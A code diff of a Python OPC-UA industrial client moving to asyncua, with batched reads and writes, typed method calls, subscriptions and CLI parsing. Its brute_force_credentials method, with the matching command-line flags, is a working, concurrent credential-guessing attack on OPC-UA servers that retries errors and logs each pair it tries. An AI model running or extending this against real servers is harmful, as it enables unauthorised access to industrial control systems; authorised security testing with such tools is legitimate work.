-        """Write values to multiple nodes in one operation"""
+    async def write_nodes(self, node_ids: List[Union[str, ua.NodeId]], values: List[Any],
+                          batch_size: int = 500) -> List[bool]:
+        """Write values to multiple nodes, `batch_size` per Write request with all batches in flight at once"""
         results = []
         
         if not await self.connect():
@@ -449,23 +825,58 @@ class OPCUAClient:
         try:
             self.logger.info(f"Writing values to {len(node_ids)} nodes...")
             
-            # Get node objects
-            node_objects = [self.client.get_node(node_id) for node_id in node_ids]
+            starts = range(0, len(node_ids), batch_size)
+            chunk_results = await asyncio.gather(*[
+                self._write_chunk(node_ids[i:i + batch_size], values[i:i + batch_size]) for i in starts
+            ])
+            results = [ok for chunk in chunk_results for ok in chunk]
             
-            # Write values in batch
-            self.client.set_values(node_objects, values)
-            
-            results = [True] * len(node_ids)
-            self.logger.info("Batch write successful")
+            if all(results):
+                self.logger.info("Batch write successful")
             
         except Exception as e:
             self.logger.error(f"Error writing nodes: {e}")
             results = [False] * len(node_ids)
-        finally:
-            await self.disconnect()
         
         return results
     
+    async def _write_chunk(self, node_ids: List[Union[str, ua.NodeId]], values: List[Any]) -> List[bool]:
+        """Write one batch of write_nodes in a single Write request.
+        
+        Each value is sent as a Variant of the node's declared DataType, so
+        string values from the command line reach numeric and boolean nodes
+        as the type the server expects. A value that cannot be converted fails
+        only its own node.
+        """
+        results = [False] * len(node_ids)
+        try:
+            nodeids = [self._nodeid(node_id) for node_id in node_ids]
+            data_types = await self._read_attributes(nodeids, (ua.AttributeIds.DataType,))
+            
+            params = ua.WriteParameters()
+            indices = []
+            for i, (node_id, nodeid, data_type, value) in enumerate(zip(node_ids, nodeids, data_types, values)):
+                try:
+                    variant = to_variant(value, BUILTIN_VARIANT_TYPES.get(data_type))
+                except (ValueError, TypeError) as e:
+                    self.logger.warning(f"Error writing to node {node_id}: {e}")
+                    continue
+                params.NodesToWrite.append(ua.WriteValue(
+                    NodeId=nodeid, AttributeId=ua.AttributeIds.Value, Value=ua.DataValue(variant)
+                ))
+                indices.append(i)
+            
+            codes = await self.client.uaclient.write(params) if indices else []
+            for i, code in zip(indices, codes):
+                self._attr_cache.pop((nodeids[i], ua.AttributeIds.Value), None)
+                if code.is_good():
+                    results[i] = True
+                else:
+                    self.logger.warning(f"Error writing to node {node_ids[i]}: {code.name}")
+        except Exception as e:
+            self.logger.warning(f"Error writing batch of {len(node_ids)} nodes: {e}")
+        return results
+    
     async def call_method(self, object_node_id: str, method_node_id: str, 
                          arguments: List[Any] = None) -> Optional[Any]:
         """Call a method on an object"""
@@ -475,13 +886,19 @@ class OPCUAClient:
         try:
             self.logger.info(f"Calling method {method_node_id} on object {object_node_id}...")
             
-            object_node = self.client.get_node(object_node_id)
-            method_node = self.client.get_node(method_node_id)
+            object_node = self.client.get_node(self._nodeid(object_node_id))
+            method_node = self.client.get_node(self._nodeid(method_node_id))
             
-            if arguments is None:
+            if arguments:
+                # Wrap arguments in Variants of the declared types so they are
+                # not inferred from the Python values on every call
+                input_types = await self._method_input_types(method_node)
+                arguments = [to_variant(arg, vtype) for arg, vtype in zip(arguments, input_types)] \
+                    + list(arguments[len(input_types):])
+            else:
                 arguments = []
             
-            result = object_node.call_method(method_node, *arguments)
+            result = await object_node.call_method(method_node, *arguments)
             
             self.logger.info("Method call successful")
             return result
@@ -489,35 +906,102 @@ class OPCUAClient:
         except Exception as e:
             self.logger.error(f"Error calling method: {e}")
             return None
-        finally:
-            await self.disconnect()
+    
+    async def _method_input_types(self, method_node: Node) -> List[Optional[ua.VariantType]]:
+        """VariantType of each input argument of a method, read once per method
+        
+        Arguments of non built-in types map to None and are passed through as is.
+        """
+        input_types = self._method_arg_types.get(method_node.nodeid)
+        if input_types is None:
+            try:
+                input_arguments = await (await method_node.get_child("0:InputArguments")).read_value()
+            except ua.UaError:
+                # Methods without inputs have no InputArguments property
+                input_arguments = []
+            input_types = [BUILTIN_VARIANT_TYPES.get(argument.DataType) for argument in input_arguments]
+            self._method_arg_types[method_node.nodeid] = input_types
+        return input_types
     
     async def create_subscription(self, subscription_name: str, 
-                                nodes: List[str], period: int = 1000) -> Optional[str]:
-        """Create a subscription to monitor nodes"""
+                                nodes: List[str], period: int = 1000,
+                                queue_size: int = 10, sampling_interval: float = 0,
+                                deadband: float = 0,
+                                deadband_type: ua.DeadbandType = ua.DeadbandType.Absolute) -> Optional[str]:
+        """Create a subscription to monitor nodes.
+        
+        Every node is a monitored item of one subscription. Each item samples
+        at `sampling_interval` ms (0 asks for the fastest rate the server
+        supports) and queues up to `queue_size` changes between publishes, so
+        transitions faster than `period` are delivered rather than overwritten.
+        
+        A `deadband` above 0 filters the items of numeric nodes so changes
+        smaller than it are not reported; discrete and string nodes always
+        report every change.
+        """
         if not await self.connect():
             return None
         
         try:
             self.logger.info(f"Creating subscription '{subscription_name}'...")
             
-            # Create subscription handler
-            handler = SubscriptionHandler(self.logger)
-            
-            # Create subscription
-            subscription = self.client.create_subscription(period, handler)
-            
-            # Add nodes to subscription
+            # Resolve the nodes, then add them all with one CreateMonitoredItems request
+            node_ids, node_objs = [], []
             for node_id in nodes:
                 try:
-                    node = self.client.get_node(node_id)
-                    subscription.subscribe_data_change(node)
-                    self.logger.info(f"Added node {node_id} to subscription")
+                    node_objs.append(self.client.get_node(self._nodeid(node_id)))
+                    node_ids.append(node_id)
                 except Exception as e:
                     self.logger.warning(f"Failed to add node {node_id} to subscription: {e}")
             
+            # Read the browse names up front so notifications need no lookups,
+            # along with the data types that decide where a deadband applies
+            nodeids = [node.nodeid for node in node_objs]
+            attrs = await self._read_attributes(nodeids, (ua.AttributeIds.BrowseName, ua.AttributeIds.DataType))
+            browse_names, data_types = attrs[0::2], attrs[1::2]
+            names = {nodeid: name.Name for nodeid, name in zip(nodeids, browse_names) if name is not None}
+            
+            # Create subscription handler
+            handler = SubscriptionHandler(self.logger, names)
+            
+            # Create subscription
+            try:
+                subscription = await self.client.create_subscription(period, handler)
+            except Exception:
+                await handler.close()
+                raise
+            
+            handles = {}
+            numeric = [deadband > 0 and BUILTIN_VARIANT_TYPES.get(data_type) in NUMERIC_VARIANT_TYPES
+                       for data_type in data_types]
+            # Build the item requests directly: subscription.deadband_monitor has no
+            # sampling interval, and this way every item goes in one request
+            deadband_filter = None
+            if any(numeric):
+                deadband_filter = ua.DataChangeFilter()
+                deadband_filter.Trigger = ua.DataChangeTrigger.StatusValue
+                deadband_filter.DeadbandType = deadband_type
+                deadband_filter.DeadbandValue = deadband
+            requests = [
+                subscription._make_monitored_item_request(
+                    node, ua.AttributeIds.Value, deadband_filter if filtered else None,
+                    queue_size, ua.MonitoringMode.Reporting, sampling_interval
+                )
+                for node, filtered in zip(node_objs, numeric)
+            ]
+            results = await subscription.create_monitored_items(requests) if requests else []
+            for node_id, result in zip(node_ids, results):
+                # Failed items come back as a StatusCode instead of a handle
+                if isinstance(result, ua.StatusCode):
+                    self.logger.warning(f"Failed to add node {node_id} to subscription: {result.name}")
+                else:
+                    handles[node_id] = result
+                    self.logger.info(f"Added node {node_id} to subscription")
+            
             # Store subscription
             self.subscriptions[subscription_name] = subscription
+            self.subscription_handles[subscription_name] = handles
+            self.subscription_handlers[subscription_name] = handler
             
             self.logger.info(f"Subscription '{subscription_name}' created successfully")
             return subscription_name
@@ -525,16 +1009,16 @@ class OPCUAClient:
         except Exception as e:
             self.logger.error(f"Error creating subscription: {e}")
             return None
-        finally:
-            await self.disconnect()
     
     async def delete_subscription(self, subscription_name: str) -> bool:
         """Delete a subscription"""
         try:
             if subscription_name in self.subscriptions:
                 subscription = self.subscriptions[subscription_name]
-                subscription.delete()
+                await subscription.delete()
                 del self.subscriptions[subscription_name]
+                self.subscription_handles.pop(subscription_name, None)
+                await self.subscription_handlers.pop(subscription_name).close()
                 self.logger.info(f"Subscription '{subscription_name}' deleted")
                 return True
             else:
@@ -544,6 +1028,26 @@ class OPCUAClient:
             self.logger.error(f"Error deleting subscription: {e}")
             return False
     
+    async def unsubscribe_nodes(self, subscription_name: str, nodes: List[str]) -> bool:
+        """Stop monitoring some nodes of a subscription with one DeleteMonitoredItems request"""
+        try:
+            if subscription_name not in self.subscriptions:
+                self.logger.warning(f"Subscription '{subscription_name}' not found")
+                return False
+            
+            handles = self.subscription_handles[subscription_name]
+            to_remove = [node_id for node_id in nodes if node_id in handles]
+            if to_remove:
+                await self.subscriptions[subscription_name].unsubscribe([handles[node_id] for node_id in to_remove])
+                for node_id in to_remove:
+                    del handles[node_id]
+            
+            self.logger.info(f"Removed {len(to_remove)} node(s) from subscription '{subscription_name}'")
+            return True
+        except Exception as e:
+            self.logger.error(f"Error unsubscribing nodes: {e}")
+            return False
+    
     async def test_connection(self) -> bool:
         """Test connection to the OPC-UA server"""
         try:
@@ -552,7 +1056,7 @@ class OPCUAClient:
             
             # Try to read the root node
             root_node = self.client.get_root_node()
-            root_node.get_browse_name()
+            await root_node.read_browse_name()
             
             self.logger.info("Connection test successful")
             return True
@@ -560,8 +1064,6 @@ class OPCUAClient:
         except Exception as e:
             self.logger.error(f"Connection test failed: {e}")
             return False
-        finally:
-            await self.disconnect()
     
     async def get_server_info(self) -> Optional[Dict[str, Any]]:
         """Get server information"""
@@ -571,18 +1073,20 @@ class OPCUAClient:
         try:
             self.logger.info("Getting server information...")
             
-            # Get server node
-            server_node = self.client.get_server_node()
-            
-            # Get server info
+            # ServerArray[0] is the server's own URI; the rest lives under
+            # Server/ServerStatus/BuildInfo. All of it comes back in one Read.
+            server_array, product_name, product_uri, software_version, build_number, build_date = \
+                await self._read_attributes([ua.NodeId(object_id) for object_id in SERVER_INFO_NODES],
+                                            (ua.AttributeIds.Value,))
+            server_uri = server_array[0] if server_array else None
             server_info = {
-                'server_name': server_node.get_browse_name().Name,
-                'server_uri': self.client.get_server_node().get_browse_name().Name,
-                'application_uri': self.client.get_application_uri(),
-                'product_uri': self.client.get_product_uri(),
-                'software_version': self.client.get_software_version(),
-                'build_number': self.client.get_build_number(),
-                'build_date': self.client.get_build_date()
+                'server_name': product_name,
+                'server_uri': server_uri,
+                'application_uri': server_uri,
+                'product_uri': product_uri,
+                'software_version': software_version,
+                'build_number': build_number,
+                'build_date': build_date
             }
             
             self.logger.info("Server information retrieved successfully")
@@ -591,22 +1095,24 @@ class OPCUAClient:
         except Exception as e:
             self.logger.error(f"Error getting server info: {e}")
             return None
-        finally:
-            await self.disconnect()
     
     async def brute_force_credentials(self, password_wordlist_path: str, 
                                     username_wordlist_path: str = None,
-                                    delay: float = 1.0) -> List[Dict[str, str]]:
-        """Brute force OPC-UA server credentials"""
+                                    delay: float = 1.0,
+                                    concurrency: int = 16,
+                                    retries: int = 3) -> List[Dict[str, str]]:
+        """Brute force OPC-UA server credentials, testing up to `concurrency` at once
+        
+        The password wordlist is streamed from disk once per username, so memory
+        use does not grow with its size, and attempts start while it is still
+        being counted for the progress total. Only a rejection of the credentials
+        themselves rules a pair out; an attempt that fails for any other reason
+        (timeout, refused connection, too many sessions) is retried up to
+        `retries` times with exponential backoff.
+        """
         valid_credentials = []
         
         try:
-            # Load password wordlist
-            with open(password_wordlist_path, 'r', encoding='utf-8', errors='ignore') as f:
-                passwords = [line.strip() for line in f if line.strip()]
-            
-            self.logger.info(f"Loaded {len(passwords)} passwords from wordlist")
-            
             # Load username wordlist if provided
             usernames = ['admin', 'root', 'user', 'operator']  # Default usernames
             if username_wordlist_path:
@@ -617,52 +1123,130 @@ class OPCUAClient:
                 except Exception as e:
                     self.logger.warning(f"Failed to load username wordlist: {e}")
             
-            total_attempts = len(usernames) * len(passwords)
-            current_attempt = 0
-            
-            self.logger.info(f"Starting brute force attack with {total_attempts} total attempts")
-            self.logger.info(f"Delay between attempts: {delay}s")
+            # Fail early on a missing or unreadable password wordlist
+            with open(password_wordlist_path, 'rb'):
+                pass
             
-            for username in usernames:
-                for password in passwords:
-                    current_attempt += 1
-                    
-                    self.logger.info(f"Attempt {current_attempt}/{total_attempts}: {username}:{password}")
-                    
+            # Count the password wordlist off the event loop while the attempts
+            # run; progress shows "?" for the total until the count is in
+            total_attempts = '?'
+            
+            def counted(future: asyncio.Future) -> None:
+                nonlocal total_attempts
+                if future.cancelled() or future.exception():
+                    return
+                password_count = future.result()
+                total_attempts = len(usernames) * password_count
+                self.logger.info(f"Found {password_count} passwords in wordlist ({total_attempts} total attempts)")
+            
+            count_future = asyncio.get_running_loop().run_in_executor(
+                None, self._count_wordlist, password_wordlist_path)
+            count_future.add_done_callback(counted)
+            
+            self.logger.info(f"Starting brute force attack with {len(usernames)} username(s)")
+            self.logger.info(f"Delay between attempts: {delay}s, concurrency: {concurrency}")
+            
+            # The delay spaces out attempt starts across all workers, so it
+            # caps the overall rate instead of serializing the attempts
+            pace_lock = asyncio.Lock()
+            next_start = time.monotonic()
+            
+            async def wait_turn():
+                nonlocal next_start
+                if delay <= 0:
+                    return
+                async with pace_lock:
+                    now = time.monotonic()
+                    if next_start > now:
+                        await asyncio.sleep(next_start - now)
+                        now = next_start
+                    next_start = now + delay
+            
+            async def try_credentials(test_client: Client, attempt: int, username: str,
+                                      password: str) -> Optional[Dict[str, Any]]:
+                test_client.set_user(username)
+                test_client.set_password(password)
+                for retry in range(retries + 1):
+                    await wait_turn()
+                    self.logger.info("Attempt %d/%s: %s:%s", attempt, total_attempts, username, password)
                     try:
-                        # Create a new client instance for each attempt
-                        test_client = Client(url=self.url, timeout=self.timeout)
-                        test_client.set_user(username)
-                        test_client.set_password(password)
-                        
                         # Try to connect
-                        test_client.connect()
-                        
-                        # If we get here, authentication was successful
-                        self.logger.info(f"✅ SUCCESS: Valid credentials found - {username}:{password}")
-                        valid_credentials.append({
-                            'username': username,
-                            'password': password,
-                            'attempt': current_attempt
-                        })
-                        
-                        # Test if we can actually read data
-                        try:
-                            root_node = test_client.get_root_node()
-                            root_node.get_browse_name()
-                            self.logger.info(f"✅ Confirmed access - can read server data")
-                        except Exception as e:
-                            self.logger.warning(f"⚠️ Authentication succeeded but no data access: {e}")
-                        
-                        test_client.disconnect()
-                        
+                        await test_client.connect()
+                        break
+                    except ua.UaStatusCodeError as e:
+                        if e.code in CREDENTIAL_REJECTED_CODES:
+                            # Authentication failed
+                            self.logger.debug("❌ Failed: %s:%s - %.100s", username, password, e)
+                            return None
+                        error = e
                     except Exception as e:
-                        # Authentication failed
-                        self.logger.debug(f"❌ Failed: {username}:{password} - {str(e)[:100]}")
+                        error = e
                     
-                    # Delay between attempts to avoid overwhelming the server
-                    if delay > 0:
-                        await asyncio.sleep(delay)
+                    # Not an answer about the credentials; back off and try again
+                    if retry < retries:
+                        backoff = max(delay, 0.5) * 2 ** retry
+                        self.logger.warning("⚠️ Attempt %d errored (%.100s), retrying in %.1fs",
+                                            attempt, error, backoff)
+                        await asyncio.sleep(backoff)
+                else:
+                    self.logger.warning("⚠️ Gave up on %s:%s after %d errors: %.100s",
+                                        username, password, retries + 1, error)
+                    return None
+                
+                # If we get here, authentication was successful
+                self.logger.info(f"✅ SUCCESS: Valid credentials found - {username}:{password}")
+                try:
+                    # Test if we can actually read data
+                    root_node = test_client.get_root_node()
+                    await root_node.read_browse_name()
+                    self.logger.info(f"✅ Confirmed access - can read server data")
+                except Exception as e:
+                    self.logger.warning(f"⚠️ Authentication succeeded but no data access: {e}")
+                finally:
+                    await test_client.disconnect()
+                
+                return {'username': username, 'password': password, 'attempt': attempt}
+            
+            # Each worker owns one client and only swaps the credentials on it.
+            # The queue is bounded so the wordlist is read only as fast as it is tested.
+            worker_count = max(1, concurrency)
+            queue: asyncio.Queue = asyncio.Queue(maxsize=worker_count * 4)
+            
+            async def produce():
+                attempt = 0
+                for username in usernames:
+                    with open(password_wordlist_path, 'rb') as f:
+                        for line in f:
+                            password = line.strip()
+                            if password:
+                                attempt += 1
+                                await queue.put((attempt, username, password))
+                for _ in range(worker_count):
+                    await queue.put(None)
+            
+            async def work():
+                test_client = Client(url=self.url, timeout=self.timeout)
+                while True:
+                    item = await queue.get()
+                    if item is None:
+                        return
+                    attempt, username, password = item
+                    cred = await try_credentials(test_client, attempt, username,
+                                                 password.decode('utf-8', errors='ignore'))
+                    if cred:
+                        valid_credentials.append(cred)
+            
+            tasks = [asyncio.create_task(produce())]
+            tasks += [asyncio.create_task(work()) for _ in range(worker_count)]
+            try:
+                await asyncio.gather(*tasks)
+            finally:
+                # A failed producer or worker must not leave the others blocked
+                # on the queue or still attacking the server
+                for task in tasks:
+                    task.cancel()
+                await asyncio.gather(*tasks, return_exceptions=True)
+            valid_credentials.sort(key=lambda cred: cred['attempt'])
             
             if valid_credentials:
                 self.logger.info(f"🎉 Brute force completed! Found {len(valid_credentials)} valid credential(s)")
@@ -677,32 +1261,198 @@ class OPCUAClient:
             self.logger.error(f"Error during brute force attack: {e}")
             return valid_credentials
     
+    @staticmethod
+    def _count_wordlist(path: str) -> int:
+        """Count the non-blank lines of a wordlist without keeping them"""
+        with open(path, 'rb') as f:
+            return sum(1 for line in f if line.strip())
+    
     async def stop(self) -> None:
         """Stop the OPC-UA client"""
-        # Delete all subscriptions
-        for subscription_name in list(self.subscriptions.keys()):
-            await self.delete_subscription(subscription_name)
+        # Delete all subscriptions with one DeleteSubscriptions request
+        if self.subscriptions:
+            try:
+                ids = [subscription.subscription_id for subscription in self.subscriptions.values()]
+                await self.client.delete_subscriptions(ids)
+                self.logger.info(f"Deleted {len(ids)} subscription(s)")
+            except Exception as e:
+                self.logger.error(f"Error deleting subscriptions: {e}")
+            for handler in self.subscription_handlers.values():
+                await handler.close()
+            self.subscriptions.clear()
+            self.subscription_handles.clear()
+            self.subscription_handlers.clear()
         
         await self.disconnect()
         self.logger.info("OPC-UA client stopped")
 
 class SubscriptionHandler:
-    """Handler for OPC-UA subscriptions"""
+    """Handler for OPC-UA subscriptions
+    
+    Notifications are queued as they arrive and logged by a background task, so
+    the subscription's publish loop never waits on formatting or the network.
+    """
     
-    def __init__(self, logger):
+    # Notifications logged per wakeup of the consumer task
+    BATCH_SIZE = 100
+    
+    def __init__(self, logger, names: Optional[Dict[ua.NodeId, str]] = None):
         self.logger = logger
+        self.queue: asyncio.Queue = asyncio.Queue()
+        # Browse names of the subscribed nodes, read once at subscribe time
+        self._name_cache = names if names is not None else {}
+        self._consumer = asyncio.create_task(self._consume())
     
-    def datachange_notification(self, node, val, data):
+    async def datachange_notification(self, node, val, data):
         """Called when data changes in subscribed nodes"""
-        self.logger.info(f"Data change notification - Node: {node.get_browse_name().Name}, Value: {val}")
+        self.queue.put_nowait((node.nodeid, val, data.monitored_item.Value.SourceTimestamp))
+    
+    async def _consume(self) -> None:
+        """Log queued notifications, up to BATCH_SIZE at a time"""
+        while True:
+            batch = [await self.queue.get()]
+            while len(batch) < self.BATCH_SIZE and not self.queue.empty():
+                batch.append(self.queue.get_nowait())
+            self._log(batch)
+    
+    def _log(self, batch) -> None:
+        if not self.logger.isEnabledFor(logging.INFO):
+            return
+        for nodeid, val, source_timestamp in batch:
+            name = self._name_cache.get(nodeid) or nodeid.to_string()
+            self.logger.info("Data change notification - Node: %s, Value: %s", name, val)
+    
+    async def close(self) -> None:
+        """Stop the consumer task and log anything still queued"""
+        self._consumer.cancel()
+        try:
+            await self._consumer
+        except asyncio.CancelledError:
+            pass
+        pending = []
+        while not self.queue.empty():
+            pending.append(self.queue.get_nowait())
+        self._log(pending)
     
     def event_notification(self, event):
         """Called when events occur in subscribed nodes"""
         self.logger.info(f"Event notification - Event: {event}")
 
-async def main():
-    """Main async function demonstrating OPC-UA client usage"""
-    parser = argparse.ArgumentParser(description='Modern OPC-UA Client Demo using python-opcua')
+# Nodes formatted between writes to stdout when printing long listings
+OUTPUT_CHUNK_NODES = 1000
+
+def format_value(value: Any) -> str:
+    """Format a node value for printing.
+    
+    Arrays and structures are rendered as JSON by orjson when it is installed,
+    which is much faster than their nested dataclass reprs; anything else, or
+    anything orjson cannot serialize, falls back to str().
+    """
+    if isinstance(value, ua.NodeId):
+        return value.to_string()
+    if orjson is not None and (isinstance(value, (list, tuple, dict)) or is_dataclass(value)):
+        try:
+            return orjson.dumps(value, default=str).decode()
+        except TypeError:
+            pass
+    return str(value)
+
+# Type prefixes for --call-method arguments, e.g. i:42, f:1.5, b:true, s:42
+ARGUMENT_PREFIXES: Dict[str, Callable[[str], Any]] = {
+    'i': int,
+    'f': float,
+    'b': parse_bool,
+    's': str,
+}
+
+def parse_method_argument(text: str) -> Any:
+    """Convert a --call-method argument by its type prefix.
+    
+    Arguments without a prefix stay strings and are converted to the method's
+    declared input type by call_method.
+    """
+    prefix, sep, rest = text.partition(':')
+    convert = ARGUMENT_PREFIXES.get(prefix) if sep else None
+    return convert(rest) if convert else text
+
+def cli_type(parse: Callable[[str], Any]) -> Callable[[str], Any]:
+    """Adapt a parser for argparse `type=`, reporting its ValueError message"""
+    @functools.wraps(parse)
+    def wrapper(text: str) -> Any:
+        try:
+            return parse(text)
+        except ValueError as e:
+            raise argparse.ArgumentTypeError(str(e)) from e
+    return wrapper
+
+@cli_type
+def single_node_id(text: str) -> str:
+    """Parse a single node ID"""
+    validate_node_ids([text])
+    return text
+
+@cli_type
+def node_id_list(text: str) -> List[str]:
+    """Parse node_id1,node_id2,..."""
+    node_ids = text.split(',')
+    validate_node_ids(node_ids)
+    return node_ids
+
+@cli_type
+def node_value_pair(text: str) -> Tuple[str, str]:
+    """Parse node_id,value"""
+    parts = text.split(',', 1)
+    if len(parts) != 2:
+        raise ValueError("Must have node_id and value (format: node_id,value)")
+    validate_node_ids(parts[:1])
+    return parts[0], parts[1]
+
+@cli_type
+def node_value_pairs(text: str) -> List[Tuple[str, str]]:
+    """Parse node_id1,value1,node_id2,value2,..."""
+    parts = text.split(',')
+    if len(parts) % 2 != 0:
+        raise ValueError("Must have even number of values (format: node_id1,value1,node_id2,value2,...)")
+    validate_node_ids(parts[::2])
+    return list(zip(parts[::2], parts[1::2]))
+
+@cli_type
+def method_call(text: str) -> Tuple[str, str, List[Any]]:
+    """Parse object_node_id,method_node_id,arg1,arg2,..."""
+    parts = text.split(',')
+    if len(parts) < 2:
+        raise ValueError("Must have at least object_node_id and method_node_id "
+                         "(format: object_node_id,method_node_id,arg1,arg2,...)")
+    validate_node_ids(parts[:2])
+    return parts[0], parts[1], [parse_method_argument(arg) for arg in parts[2:]]
+
+@cli_type
+def subscription_spec(text: str) -> Tuple[str, List[str]]:
+    """Parse subscription_name,node_id1,node_id2,..."""
+    parts = text.split(',')
+    if len(parts) < 2:
+        raise ValueError("Must have at least subscription name and one node ID "
+                         "(format: subscription_name,node_id1,node_id2,...)")
+    validate_node_ids(parts[1:])
+    return parts[0], parts[1:]
+
+def format_node(node: OPCUANode, indent: str = "  ") -> str:
+    """Format a node of a browse or read listing as one string, blank line included"""
+    data_type, value = node.data_type, node.value
+    text = (f"{indent}Node ID: {node.node_id}\n"
+            f"{indent}Browse Name: {node.browse_name}\n"
+            f"{indent}Display Name: {node.display_name}\n"
+            f"{indent}Node Class: {node.node_class}\n")
+    if data_type:
+        text += f"{indent}Data Type: {data_type}\n"
+    if value is not None:
+        text += f"{indent}Value: {format_value(value)}\n"
+    return text + "\n"
+
+@functools.lru_cache(maxsize=1)
+def build_parser() -> argparse.ArgumentParser:
+    """Build the command line parser for main()"""
+    parser = argparse.ArgumentParser(description='Modern OPC-UA Client Demo using asyncua')
     parser.add_argument('--url', required=True,
                        help='OPC-UA server URL (e.g., opc.tcp://localhost:4840)')
     parser.add_argument('--timeout', type=int, default=4,
@@ -716,51 +1466,319 @@ async def main():
     parser.add_argument('--certificate', help='Path to client certificate')
     parser.add_argument('--private-key', help='Path to client private key')
     
-    # Operation arguments
-    parser.add_argument('--discover-servers', action='store_true',
+    # Operation arguments; only one runs per invocation
+    ops = parser.add_mutually_exclusive_group()
+    ops.add_argument('--discover-servers', action='store_true',
                        help='Discover OPC-UA servers on the network')
-    parser.add_argument('--get-endpoints', action='store_true',
+    ops.add_argument('--get-endpoints', action='store_true',
                        help='Get server endpoints')
-    parser.add_argument('--test-connection', action='store_true',
+    ops.add_argument('--test-connection', action='store_true',
                        help='Test connection to server')
-    parser.add_argument('--get-server-info', action='store_true',
+    ops.add_argument('--get-server-info', action='store_true',
                        help='Get server information')
-    parser.add_argument('--browse', nargs='?', const="i=84", default="i=84",
+    ops.add_argument('--browse', nargs='?', const="i=84", type=single_node_id,
                        help='Browse nodes starting from node ID (default: i=84). Common node IDs: i=84 (Root), i=85 (Objects), i=86 (Types), i=87 (Views), i=88 (Methods)')
-    parser.add_argument('--read-node', help='Read a single node by node ID')
-    parser.add_argument('--read-nodes', help='Read multiple nodes (comma-separated node IDs)')
-    parser.add_argument('--write-node', help='Write to a node (format: node_id,value)')
-    parser.add_argument('--write-nodes', help='Write to multiple nodes (format: node_id1,value1,node_id2,value2,...)')
-    parser.add_argument('--call-method', help='Call a method (format: object_node_id,method_node_id,arg1,arg2,...)')
-    parser.add_argument('--create-subscription', help='Create subscription (format: name,node_id1,node_id2,...)')
-    parser.add_argument('--delete-subscription', help='Delete subscription by name')
-    parser.add_argument('--password-wordlist', help='Path to password wordlist file for brute force testing')
+    ops.add_argument('--read-node', type=single_node_id, help='Read a single node by node ID')
+    ops.add_argument('--read-nodes', type=node_id_list, help='Read multiple nodes (comma-separated node IDs)')
+    ops.add_argument('--write-node', type=node_value_pair, help='Write to a node (format: node_id,value)')
+    ops.add_argument('--write-nodes', type=node_value_pairs, help='Write to multiple nodes (format: node_id1,value1,node_id2,value2,...)')
+    ops.add_argument('--call-method', type=method_call, help='Call a method (format: object_node_id,method_node_id,arg1,arg2,...); '
+                                           'arguments may be typed with an i:, f:, b: or s: prefix')
+    ops.add_argument('--create-subscription', type=subscription_spec, help='Create subscription (format: name,node_id1,node_id2,...)')
+    ops.add_argument('--delete-subscription', help='Delete subscription by name')
+    ops.add_argument('--password-wordlist', help='Path to password wordlist file for brute force testing')
     parser.add_argument('--username-wordlist', help='Path to username wordlist file for brute force testing (optional)')
     parser.add_argument('--brute-force-delay', type=float, default=1.0,
-                       help='Delay between brute force attempts in seconds (default: 1.0)')
+                       help='Minimum delay between brute force attempt starts in seconds (default: 1.0)')
+    parser.add_argument('--brute-force-concurrency', type=int, default=16,
+                       help='Maximum number of credential attempts in flight (default: 16)')
+    parser.add_argument('--brute-force-retries', type=int, default=3,
+                       help='Retries for a brute force attempt that errors without rejecting the credentials (default: 3)')
+    parser.add_argument('--deadband', type=float, default=0,
+                       help='Deadband for numeric nodes of --create-subscription; 0 reports every change (default: 0)')
+    parser.add_argument('--deadband-type', choices=['absolute', 'percent'], default='absolute',
+                       help='Whether --deadband is an absolute change or a percent of the EURange (default: absolute)')
     parser.add_argument('--max-results', type=int, default=100,
                        help='Maximum number of results for browse operations (default: 100)')
+    parser.add_argument('--browse-depth', type=int, default=1,
+                       help='Number of levels to walk below the --browse start node (default: 1)')
+    parser.add_argument('--read-batch-size', type=int, default=500,
+                       help='Nodes per Read request for --read-nodes (default: 500)')
+    parser.add_argument('--write-batch-size', type=int, default=500,
+                       help='Nodes per Write request for --write-nodes (default: 500)')
+    parser.add_argument('--log-level', choices=['debug', 'info', 'warning', 'error'], default='info',
+                       help='Logging level (default: info)')
+    parser.add_argument('--no-cache', action='store_true',
+                       help=f'Do not read or write the discovery cache ({DEFAULT_DISCOVERY_CACHE_PATH})')
+    parser.add_argument('--no-uvloop', action='store_true',
+                       help='Use the default asyncio event loop even if uvloop is installed')
+    return parser
+
+async def _do_discover_servers(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Discover servers"""
+    print(f"\nDiscovering OPC-UA servers...")
+    servers = await client.discover_servers()
+    if servers:
+        print(f"Found {len(servers)} server(s):")
+        out = []
+        for server in servers:
+            out.append(f"  Name: {server.name}\n")
+            out.append(f"  URL: {server.url}\n")
+            out.append(f"  Application URI: {server.application_uri}\n")
+            out.append(f"  Product URI: {server.product_uri}\n")
+            out.append(f"  Type: {server.application_type}\n")
+            if len(server.discovery_urls) > 1:
+                out.append(f"  Discovery URLs: {', '.join(server.discovery_urls)}\n")
+            out.append("\n")
+        sys.stdout.write("".join(out))
+        sys.stdout.flush()
+    else:
+        print("No servers found")
+
+async def _do_get_endpoints(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Get endpoints"""
+    print(f"\nGetting server endpoints...")
+    endpoints = await client.get_endpoints()
+    if endpoints:
+        print(f"Found {len(endpoints)} endpoint(s):")
+        for i, endpoint in enumerate(endpoints):
+            print(f"  Endpoint {i+1}: {endpoint['endpoint_url']}")
+            print(f"    Security Policy: {endpoint['security_policy_uri']}")
+            print(f"    Security Mode: {endpoint['security_mode']}")
+            print()
+    else:
+        print("No endpoints found")
+
+async def _do_test_connection(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Test connection"""
+    print(f"\nTesting connection to {args.url}...")
+    success = await client.test_connection()
+    print(f"Connection test {'successful' if success else 'failed'}")
+
+async def _do_get_server_info(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Get server info"""
+    print(f"\nGetting server information...")
+    info = await client.get_server_info()
+    if info:
+        print("Server Information:")
+        for key, value in info.items():
+            print(f"  {key}: {value}")
+    else:
+        print("Failed to get server information")
+
+async def _do_browse(client: OPCUAClient, args: argparse.Namespace) -> None:
+    """Browse nodes"""
+    start_node = args.browse
+    print(f"\nBrowsing nodes starting from {start_node}...")
+    count = 0
+    out = []
+    async for node in client.iter_browse(start_node, args.max_results, args.browse_depth):
+        count += 1
+        out.append(format_node(node))
+        if count % OUTPUT_CHUNK_NODES == 0:
+            sys.stdout.write("".join(out))
+            out.clear()
+    sys.stdout.write("".join(out))
+    sys.stdout.flush()
+    if count:
+        print(f"Found {count} node(s)")
+    else:
+        print("No nodes found")
+
